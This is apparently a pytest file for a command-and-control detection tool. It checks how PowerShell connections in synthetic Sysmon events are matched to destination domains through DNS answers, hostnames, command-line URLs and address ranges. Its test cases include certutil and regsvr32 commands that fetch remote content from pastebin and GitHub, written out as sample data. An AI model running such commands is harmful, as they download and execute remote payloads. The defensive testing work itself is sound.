from __future__ import annotations

from typing import Any

import pytest

from c2hunt.detect.testing import query_rows, sysmon

PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
IP = "151.101.208.133"
FASTLY = f"type:  5 github.map.fastly.net;::ffff:{IP};"


def proc(cmd: str = "powershell -c x", t: int = 0, guid: str = "{P}") -> dict[str, Any]:
    return sysmon(1, ProcessGuid=guid, ProcessId=7, Image=PS, CommandLine=cmd, _messageTime=t)


def conn(
    t: int = 10_000, ip: str = IP, port: int = 443, host: str | None = "-", guid: str = "{P}"
) -> dict[str, Any]:
    return sysmon(
        3,
        ProcessGuid=guid,
        ProcessId=7,
        Image=PS,
        DestinationIp=ip,
        DestinationPort=port,
        DestinationHostname=host,
        _messageTime=t,
    )


def dns(
    name: str, t: int, results: str = FASTLY, guid: str = "{P}", pid: int = 7
) -> dict[str, Any]:
    return sysmon(
        22,
        ProcessGuid=guid,
        ProcessId=pid,
        Image=PS,
        QueryName=name,
        QueryResults=results,
        _messageTime=t,
    )


def destination(rows: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
    return query_rows(rows, "SELECT dest_name, dest_source FROM c2_destinations")


@pytest.mark.parametrize(
    ("rows", "expected"),
    [
        # DNS by the same process, logged 3 ms after the connection
        (
            [proc(), dns("raw.githubusercontent.com", 10_003), conn()],
            ("raw.githubusercontent.com", "dns_process"),
        ),
        # the nearest answer in time wins
        (
            [proc(), dns("old.example", 1_000), dns("raw.githubusercontent.com", 9_000), conn()],
            ("raw.githubusercontent.com", "dns_process"),
        ),
        # the same process beats another process on the host
        (
            [
                proc(),
                dns("other.example", 9_999, guid="{Q}", pid=8),
                dns("pastebin.com", 5_000),
                conn(),
            ],
            ("pastebin.com", "dns_process"),
        ),
        # another process of the host when the process has no query
        (
            [proc(), dns("pastebin.com", 9_000, guid="{Q}", pid=8), conn()],
            ("pastebin.com", "dns_host"),
        ),
        # a host query long before the connection is not used
        ([proc(), dns("pastebin.com", 10_000 - 301_000, guid="{Q}", pid=8), conn()], None),
        # a DNS answer logged long after the connection is not used
        ([proc(), dns("pastebin.com", 16_000), conn()], None),
        # plain IPv4 answers count too; other addresses do not
        ([proc(), dns("a.example", 9_000, results="10.0.0.1;"), conn()], None),
        (
            [proc(), dns("pastebin.com", 9_000, results=f"{IP};"), conn()],
            ("pastebin.com", "dns_process"),
        ),
        # zero GUIDs on both sides: same process by ProcessId
        (
            [
                dns(
                    "raw.githubusercontent.com",
                    10_003,
                    guid="{00000000-0000-0000-0000-000000000000}",
                ),
                conn(guid="{00000000-0000-0000-0000-000000000000}"),
            ],
            ("raw.githubusercontent.com", "dns_process"),
        ),
    ],
)
def test_dns(rows: list[dict[str, Any]], expected: tuple[str, str] | None) -> None:
    assert destination(rows) == ([expected] if expected else [])


@pytest.mark.parametrize(
    ("host", "expected"),
    [
        ("api.telegram.org", ("api.telegram.org", "hostname")),
        ("Pastebin.com.", ("pastebin.com", "hostname")),
        ("lb-140-82-113-4-iad.github.com", None),
        ("a184-84-68-43.deploy.static.akamaitechnologies.com", None),
        ("github.map.fastly.net", None),
        ("d1.cloudfront.net", None),
        ("lhr25s10-in-f14.1e100.net", None),
        ("151.101.0.133", None),
        ("-", None),
        ("", None),
    ],
)
def test_hostname_only_when_it_is_a_real_name(host: str, expected: tuple[str, str] | None) -> None:
    assert destination([proc(), conn(ip="10.9.9.9", host=host)]) == ([expected] if expected else [])


@pytest.mark.parametrize(
    ("cmd", "port", "t", "expected"),
    [
        (
            "certutil -f https://raw.githubusercontent.com/x/y o",
            443,
            10_000,
            "raw.githubusercontent.com",
        ),
        ("certutil -f https://raw.githubusercontent.com/x/y o", 80, 10_000, None),
        ("regsvr32 /i:http://pastebin.com/raw/x scrobj.dll", 80, 10_000, "pastebin.com"),
        ("regsvr32 /i:http://pastebin.com/raw/x scrobj.dll", 443, 10_000, None),
        ("curl https://pastebin.com:8443/raw/x", 8443, 10_000, "pastebin.com"),
        ("curl https://a.example/x https://pastebin.com/y", 443, 10_000, "a.example"),
        # connections logged up to 5 s before the creation fit (Sysmon's stamps), not earlier
        ("curl https://pastebin.com/x", 443, -4_000, "pastebin.com"),
        ("curl https://pastebin.com/x", 443, -6_000, None),
        ("curl https://10.1.1.1/x", 443, 10_000, None),
    ],
)
def test_command_line_url_when_the_connection_fits(
    cmd: str, port: int, t: int, expected: str | None
) -> None:
    got = destination([proc(cmd), conn(t=t, ip="10.9.9.9", port=port)])
    assert got == ([(expected, "command_line_url")] if expected else [])


def test_command_line_url_not_when_dns_says_otherwise() -> None:
    rows = [
        proc("curl https://pastebin.com/x"),
        dns("pastebin.com", 9_000, results="::ffff:104.20.208.21;"),
        conn(ip="93.184.220.29"),
    ]
    assert destination(rows) == []


def test_dns_beats_the_command_line() -> None:
    rows = [proc("curl https://pastebin.com/x"), dns("github.com", 9_000, results=f"{IP};"), conn()]
    assert destination(rows) == [("github.com", "dns_process")]


@pytest.mark.parametrize(
    ("ip", "expected"),
    [
        ("140.82.113.4", ("github.com", "address_range")),
        ("149.154.167.220", ("telegram.org", "address_range")),
        ("151.101.0.133", None),
        ("::ffff:140.82.113.4", ("github.com", "address_range")),
        ("2606:50c0:8000::154", ("github.com", "address_range")),
        ("2001:b28:f23d:f001::a", ("telegram.org", "address_range")),
        ("2001:db8::1", None),
    ],
)
def test_address_ranges_are_the_weakest(ip: str, expected: tuple[str, str] | None) -> None:
    assert destination([proc(), conn(ip=ip)]) == ([expected] if expected else [])
    if expected:
        named = [proc(), dns("codeload.github.com", 9_000, results=f"{ip};"), conn(ip=ip)]
        assert destination(named) == [("codeload.github.com", "dns_process")]
